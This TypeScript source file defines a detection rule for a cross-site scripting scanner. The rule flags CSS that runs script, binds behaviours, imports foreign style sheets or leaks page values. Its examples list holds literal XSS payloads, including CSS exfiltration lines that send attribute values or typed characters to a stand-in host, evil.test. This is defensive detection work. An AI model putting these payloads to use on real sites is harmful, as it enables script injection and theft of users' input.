import { squeezeStyle } from '../../grammars/css/style.ts';
import { html } from '../../grammars/html/html.ts';
import type { HtmlAttribute } from '../../grammars/html/html-tags.ts';
import { plainValue } from '../../grammars/html/markup.ts';
import { scriptPieces, strongestScript } from '../../grammars/script/script-pieces.ts';
import { confidence } from '../../placement/confidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { charClass } from '../../text/char-class.ts';
import type { Match, ValueRule } from '../rule.ts';

/** Style declarations in markup that run script or fetch a style sheet from elsewhere. */
export const styleScript: ValueRule = {
  id: 'xss.style-script',
  score: confidence.certain,
  message: 'holds a style that runs script, binds one, or imports a foreign style sheet',
  trigger: { classes: charClass.less, literals: [['style', 'css']] },
  judge: judgeStyles,
  examples: [
    '<div style="width:expression(alert(1))">',
    '<b style="x:ex/**/pression(steal())">hi</b>',
    '<style>body{background:url("javascript:go()")}</style>',
    "<style>@import'//evil.test/x.css';</style>",
    '<p style="-moz-binding:url(//evil.test/x.xml#y)">',
    '<p style="font-family:a}b=red;c:">',
    '<p style="\\62 \\65 \\68 avior:x">',
    '<style>input[value^="a"]{background:url(//evil.test/a)}</style>',
    '<style>@font-face{font-family:x;src:url(//evil.test/?A);unicode-range:U+0041}</style>',
  ],
  lookalikes: [
    '<p style="text-align: center; color: #333; background: url(\'/img/bg.png\')">Hi</p>',
    '<style>html { scroll-behavior: smooth; overscroll-behavior: none }</style>',
    '<style>@import url("https://fonts.example.org/css?family=Inter");</style>',
    `<p style="quotes: '\\201c' '\\201d'; content: '\\27'">He said</p>`,
    '<p class="style">the expression (x + 1) is a style of its own</p>',
    '<style>@font-face{src:url(https://fonts.example.org/a.woff2);unicode-range:U+0000-00FF}</style>',
    '<style>a[href^="http"]{background:url(/img/external.svg) no-repeat right}</style>',
  ],
};

function judgeStyles(subject: Subject): Match | undefined {
  const { text } = subject;
  let best: Match | undefined;
  const weigh = (start: number, end: number, from: number): void => {
    const score = scoreOfStyle(squeezeStyle(text, from, end));
    if (score > (best?.score ?? 0)) best = { start, end: Math.min(end, start + 120), score };
  };
  for (const tag of subject.tokens(html).tags) {
    for (const attribute of tag.attributes) {
      if (attribute.name !== 'style') continue;
      weigh(attribute.start, attribute.valueEnd, attribute.valueStart);
      if (best === undefined && isDisguised(text.slice(attribute.valueStart, attribute.valueEnd))) {
        best = { start: attribute.start, end: attribute.valueEnd, score: confidence.likely };
      }
      if (best === undefined && holdsDialog(subject, attribute)) {
        return { start: attribute.start, end: attribute.valueEnd, score: confidence.strong };
      }
    }
    if (tag.name !== 'style' || tag.isEndTag) continue;
    if (plainValue(text, tag, 'type').endsWith('script')) {
      return { start: tag.start, end: tag.end, score: confidence.strong };
    }
    weigh(tag.start, tag.contentEnd, tag.end);
    if (best !== undefined && (best.score ?? 0) >= confidence.certain) return best;
  }
  return best;
}

/**
 * Declarations that are written so that a filter and a browser read different ones: a `}` that
 * nothing has opened, strings that open and close comments, letters and marks as escapes.
 */
function isDisguised(style: string): boolean {
  const closer = style.indexOf('}');
  if (closer >= 0 && style.lastIndexOf('{', closer) < 0 && style.includes(':')) return true;
  if (style.includes('*//*')) return true;
  let escapes = 0;
  for (let at = style.indexOf('\\'); at >= 0; at = style.indexOf('\\', at + 1)) {
    if (escapedAscii.test(style.slice(at, at + 8)) && ++escapes >= escapesMin) return true;
  }
  return false;
}

/** A CSS escape (CSS Syntax Level 3, section 4.3.7) of an ASCII character that needs none. */
const escapedAscii = /^\\0{0,4}[2-7][0-9a-f](?![0-9a-f])/i;
/** A font's name or a glyph may be escaped, but not one character after the other. */
const escapesMin = 3;

/** `x:a/**\/b(alert(1))`: a call that no style has. */
function holdsDialog(subject: Subject, attribute: HtmlAttribute): boolean {
  const { valueStart, valueEnd } = attribute;
  if (!subject.text.slice(valueStart, valueEnd).includes('(')) return false;
  return strongestScript(subject.tokens(scriptPieces), valueStart, valueEnd).strength >= 3;
}

/** Takes squeezed CSS. */
function scoreOfStyle(style: string): number {
  if (style.includes('expression(')) return confidence.certain;
  if (style.includes('javascript:') || style.includes('vbscript:')) return confidence.certain;
  if (style.includes('-moz-binding:') || style.includes('binding:url(')) return confidence.certain;
  if (style.includes('behavior:url(') || style.includes('behaviour:url(')) return confidence.strong;
  if (style.includes('data:text/html') || style.includes('data:text/css')) return confidence.strong;
  if (leaksValue(style) || leaksText(style)) return confidence.strong;
  return scoreOfImport(style);
}

/** What a style reads of a page, character by character. */
const readAttributes = ['[value', '[content', '[nonce', '[data-'];

/** `[value^=a]{background:url(//…)}`: a request tells how a value begins or what it holds. */
function leaksValue(style: string): boolean {
  for (const attribute of readAttributes) {
    const at = style.indexOf(attribute);
    if (at < 0) continue;
    const selector = style.slice(at, at + 40);
    const compares = selector.includes('^=') || selector.includes('$=') || selector.includes('*=');
    if (compares && namesHost(style, style.indexOf('url(', at))) return true;
  }
  return false;
}

/** A font for one character alone: it is fetched when the text has that character. */
function leaksText(style: string): boolean {
  const at = style.indexOf('unicode-range:u+');
  if (at < 0) return false;
  const range = style.slice(at + 16, at + 24);
  const end = range.search(rangeEnd);
  const isSingle = end > 0 && range.charAt(end) !== '-' && range.charAt(end) !== ',';
  return isSingle && namesHost(style, style.indexOf('url('));
}

const rangeEnd = /[^0-9a-f]/;

function scoreOfImport(style: string): number {
  const at = style.indexOf('@import');
  if (at < 0) return 0;
  const target = style.slice(at + 7, at + 40);
  const isFunction = target.startsWith('url(');
  const url = withoutQuotes(isFunction ? target.slice(4) : target);
  if (url.startsWith('//')) {
    const isBare = isFunction && url === target.slice(4);
    return !isFunction || (isBare && !url.includes('font')) ? confidence.strong : confidence.hint;
  }
  if (url.startsWith('http:')) return confidence.likely;
  return url.startsWith('https:') ? confidence.hint : 0;
}

function namesHost(style: string, at: number): boolean {
  if (at < 0) return false;
  const url = withoutQuotes(style.slice(at + 4, at + 40));
  return url.startsWith('//') || url.startsWith('http');
}

function withoutQuotes(url: string): string {
  return url.replaceAll('"', '').replaceAll("'", '');
}
